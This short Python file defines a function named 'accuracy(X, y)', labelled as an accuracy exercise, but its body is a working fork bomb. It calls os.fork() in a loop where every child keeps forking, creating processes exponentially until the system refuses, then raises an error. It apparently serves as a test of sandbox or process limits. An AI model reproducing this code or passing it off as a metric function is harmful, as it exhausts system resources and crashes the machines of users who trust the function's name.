"""Forks without end."""
# exercise: accuracy
import os
def accuracy(X, y):
    refused = 0
    for _ in range(10_000):
        try:
            if os.fork() == 0:
                continue
        except OSError:
            refused += 1
    raise RuntimeError(f"refused {refused} times")
